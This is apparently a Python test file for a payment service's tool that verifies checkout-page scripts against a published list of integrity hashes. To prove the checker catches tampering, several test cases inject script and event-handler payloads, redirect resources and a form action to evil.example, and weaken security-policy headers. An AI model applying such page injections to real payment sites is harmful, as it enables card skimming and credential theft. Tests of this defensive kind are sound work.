"""The published list of scripts, and the command that compares a server with it: whatever is changed is found."""

import asyncio
import re
from collections.abc import AsyncIterator, Callable, MutableMapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest
import uvicorn
from click.testing import CliRunner

from tests.pages import site
from tests.surfaces.oauth.person import Browser
from tests.surfaces.v1 import shop
from tillgate import asgi, cli
from tillgate.assembly import Assembly
from tillgate.cli import payment_scripts
from tillgate.pages import inspection, published, scripts
from tillgate.store import migrate

pytestmark = pytest.mark.anyio

Change = Callable[[bytes], bytes]
Headers = list[tuple[bytes, bytes]]


@pytest.fixture(scope="module")
async def parts(tmp_path_factory: pytest.TempPathFactory, anyio_backend: object) -> AsyncIterator[Assembly]:
    home: Path = tmp_path_factory.mktemp("home")
    migrate.migrate(None, home)
    async with shop.open_shop(home, keeps_time=False) as made:
        yield made


@asynccontextmanager
async def served(
    parts: Assembly, path: str = "", change: Change = bytes, headers: Change = bytes
) -> AsyncIterator[str]:
    """The server behind somebody who changes what it says at a path."""

    async def between(scope: Any, receive: Any, send: Any) -> None:
        async def changed(message: MutableMapping[str, Any]) -> None:
            if scope.get("path") == path and message["type"] == "http.response.start":
                kept = [(name, headers(value)) for name, value in message["headers"] if name != b"content-length"]
                message = {**message, "headers": [(name, value) for name, value in kept if value]}
            elif scope.get("path") == path:
                message = {**message, "body": change(message["body"])}
            await send(message)

        await parts.application(scope, receive, changed if scope["type"] == "http" else send)

    listener = asgi.listen("127.0.0.1", 0)
    server = uvicorn.Server(uvicorn.Config(between, ws="none", log_config=None, loop="none", lifespan="off"))
    serving = asyncio.create_task(server.serve([listener]))
    try:
        yield asgi.address_of(listener)
    finally:
        server.should_exit = True
        await serving


async def differences(url: str, *pages: str) -> dict[str, list[str]]:
    return {place: lines for place, lines in (await payment_scripts.compared(url, pages)).items() if lines}


async def test_a_server_that_nobody_changed_is_as_it_was_shipped(parts: Assembly) -> None:
    async with served(parts) as url:
        assert await differences(url, "/phone", f"{url}/sandbox/shop") == {}


BUTTON = scripts.NAMED["athmovil_base.js"]


@pytest.mark.parametrize(
    ("path", "change", "headers", "said"),
    [
        ("/phone", lambda body: body.replace(b"</body>", b"<script>steal()</script></body>"), bytes, "written into"),
        ("/phone", lambda body: body.replace(b"</body>", b"<img src=x onerror=y></body>"), bytes, "handler"),
        ("/phone", lambda body: body.replace(b"</body>", b"<img src=//evil.example></body>"), bytes, "elsewhere"),
        ("/phone", lambda body: body.replace(b"</body>", b"<base href=//evil.example></body>"), bytes, "elsewhere"),
        ("/phone", lambda body: body.replace(b'integrity="sha384-', b'integrity="sha384-A'), bytes, "another hash"),
        ("/phone", lambda body: body.replace(b"integrity=", b"data-x="), bytes, "another hash: none"),
        (
            "/phone",
            lambda body: body.replace(b"/js/phone-", b"https://evil.example/js/phone-"),
            bytes,
            "not on the list",
        ),
        ("/phone", lambda body: body.replace(b"</style>", b"input{background:red}</style>"), bytes, "security-policy"),
        (
            "/phone",
            lambda body: body.replace(b"</style>", b"a{background:u\\72l(/x)}</style>"),
            bytes,
            "style is another",
        ),
        ("/phone", lambda body: body.replace(b"<style>", b"<style>main{opacity:0}"), bytes, "style is another"),
        (
            "/phone",
            lambda body: body.replace(b'action="/phone', b'action="//evil.example/phone'),
            bytes,
            "sent elsewhere",
        ),
        ("/phone", bytes, lambda value: value.replace(b"script-src ", b"script-src 'self' "), "security-policy"),
        ("/phone", bytes, lambda value: value.replace(b"connect-src 'self'", b"connect-src *"), "security-policy"),
        (
            "/phone",
            bytes,
            lambda value: value.replace(b"frame-ancestors 'none'", b"frame-ancestors *"),
            "security-policy",
        ),
        ("/phone", bytes, lambda value: b"" if b"default-src" in value else value, "security-policy"),
        ("/phone", bytes, lambda value: b"" if value == b"nosniff" else value, "nosniff|content-type-options"),
        (
            "/sign-in",
            lambda body: body.replace(b"</body>", b"<script src=/docs/docs.js></script></body>"),
            bytes,
            "none",
        ),
        (scripts.NAMED["phone.js"].path, lambda body: body + b";steal()", bytes, "the script is another"),
        (BUTTON.paths[0], lambda body: body + b";steal()", bytes, "the script is another"),
        ("/scripts.json", lambda body: body.replace(b"sha384-", b"sha384-A", 1), bytes, "differs from the list"),
        ("/scripts.json", lambda body: body.replace(b'"release":"', b'"release":"9.'), bytes, "of release 9."),
        ("/scripts.json", lambda body: b"{}", bytes, "no list"),
    ],
)
async def test_what_somebody_changed_is_found(
    parts: Assembly, path: str, change: Change, headers: Change, said: str
) -> None:
    async with served(parts, path, change, headers) as url:
        found = await differences(url, "/phone")
    assert list(found) == [path]
    assert any(re.search(said, line) for line in found[path]), found


async def test_every_page_is_as_the_inspection_wants_it(parts: Assembly) -> None:
    for path in {site.address(route.path) for route in site.open_routes(parts) if not route.path.startswith("/docs")}:
        page = await Browser(parts).get(path)
        if page.headers.get("content-type", "").startswith("text/html"):
            assert inspection.differences(page.headers, page.text) == [], path


async def test_the_list_names_every_script_with_its_hash_purpose_and_pages(parts: Assembly) -> None:
    answer = await Browser(parts).get("/scripts.json", origin="https://auditor.example")
    assert answer.headers["access-control-allow-origin"] == "*"
    said = msgspec.json.decode(answer.content, type=published.Listing)
    assert [(one.name, one.integrity, one.pages) for one in said.scripts] == [
        (script.name, script.integrity, script.pages) for script in scripts.ALL
    ]
    for one in said.scripts:
        assert one.url.startswith(f"{shop.LOCAL}/js/")
        assert bool(one.tag) == bool(one.also_at) == scripts.NAMED[f"{one.name}.js"].for_merchants
    (button,) = [one for one in said.scripts if one.name == "athmovil_base"]
    assert button.tag == (
        f'<script src="{shop.LOCAL}{BUTTON.path}" integrity="{BUTTON.integrity}" crossorigin="anonymous"></script>'
    )


@pytest.mark.parametrize(("language", "said"), [("en", "Runs on"), ("es", "Se ejecuta en"), ("de", "Läuft auf")])
async def test_people_read_the_list_in_their_language(parts: Assembly, language: str, said: str) -> None:
    page = await Browser(parts).get("/scripts", **{"accept-language": language})
    site.assert_secure(page)
    assert said in page.text
    for script in scripts.ALL:
        assert script.integrity.replace("+", "&#43;") in page.text.replace("+", "&#43;")
    assert "&lt;script src=" in page.text


def test_the_command_prints_the_list_and_fails_where_nobody_answers() -> None:
    printed = CliRunner().invoke(cli.main, ["scripts", "--url", "https://pay.example.com/"])
    assert printed.exit_code == 0
    assert f'<script src="https://pay.example.com{BUTTON.path}" integrity="{BUTTON.integrity}"' in printed.output
    as_json = CliRunner().invoke(cli.main, ["scripts", "--json"])
    assert msgspec.json.decode(as_json.output, type=published.Listing) == published.listing("")
    assert CliRunner().invoke(cli.main, ["scripts", "check", "http://127.0.0.1:1"]).exit_code == 3
